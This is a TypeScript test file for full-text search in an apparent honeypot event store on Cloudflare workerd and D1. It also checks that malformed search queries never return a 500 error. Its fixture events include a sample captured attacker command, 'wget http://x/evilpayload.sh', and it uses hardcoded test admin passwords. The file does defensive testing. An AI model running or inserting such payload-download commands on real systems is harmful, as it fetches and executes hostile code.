// Full-text search (`q`) on workerd + D1: the FTS5 table of the migrations works on D1, the index is
// brought up to date before a search, retention removes deleted rows from it, and hostile queries
// get 422 or a quoted search, never a 500.
import { env, SELF } from 'cloudflare:test';
import { beforeAll, describe, expect, it } from 'vitest';
import { SUITE_ENV } from './testing/suite-env';

const BASE = 'https://cp.test';
let admin = '';
const DB = (env as { DB: { prepare(s: string): { bind(...a: unknown[]): { run(): Promise<unknown> } } } }).DB;

async function json(path: string, body?: unknown, token?: string) {
  const res = await SELF.fetch(BASE + path, {
    method: body ? 'POST' : 'GET',
    headers: { 'content-type': 'application/json', ...(token ? { authorization: `Bearer ${token}` } : {}) },
    ...(body ? { body: JSON.stringify(body) } : {}),
  });
  return { status: res.status, body: (await res.json()) as Record<string, any> };
}

beforeAll(async () => {
  // Other suites in this worker may have changed the admin password already; try each.
  let s = await json('/api/v1/auth/login', { username: 'admin', password: SUITE_ENV.DECNET_ADMIN_PASSWORD });
  if (s.status === 200 && s.body.user.mustChangePassword) {
    s = await json('/api/v1/auth/change-password', { currentPassword: SUITE_ENV.DECNET_ADMIN_PASSWORD, newPassword: 'workers-search-admin-pw' }, s.body.token);
  } else if (s.status !== 200) {
    for (const pw of ['workers-search-admin-pw', 'workers-agent-admin-pw', 'a-much-better-admin-password']) {
      s = await json('/api/v1/auth/login', { username: 'admin', password: pw });
      if (s.status === 200) break;
    }
  }
  expect(s.status).toBe(200);
  admin = s.body.token;
  for (let i = 0; i < 12; i++) {
    await DB.prepare(`INSERT INTO events (id, ts_ms, received_at_ms, decky, service, event_type, src_ip, raw) VALUES (?, ?, ?, 'edge-web', 'ssh', 'command', '203.0.113.5', ?)`)
      .bind(`fts-wk-${i}`, Date.now() - 1000 + i, Date.now(), `<134>1 - edge-web ssh - command [relay@55555 cmd="${i % 2 ? 'wget http://x/evilpayload.sh' : 'uname -a'}"]`)
      .run();
  }
});

describe('full-text search on workerd + D1', () => {
  it('finds events by words and prefixes through FTS5 on D1', async () => {
    const r = await json('/api/v1/events?q=evilpay', undefined, admin);
    expect(r.status).toBe(200);
    expect(r.body.items).toHaveLength(6);
    expect(r.body.items.every((e: { raw: string }) => e.raw.includes('evilpayload'))).toBe(true);
    expect((await json('/api/v1/events?q=uname%20-a&decky=edge-web', undefined, admin)).body.items).toHaveLength(6);
  });

  it('answers hostile queries with 200 or 422, never 500', async () => {
    for (const q of ['"', 'NEAR(a b)', 'a OR', '***', 'raw:x', '(']) {
      const r = await json(`/api/v1/events?q=${encodeURIComponent(q)}`, undefined, admin);
      expect([200, 422], q).toContain(r.status);
    }
  });
});
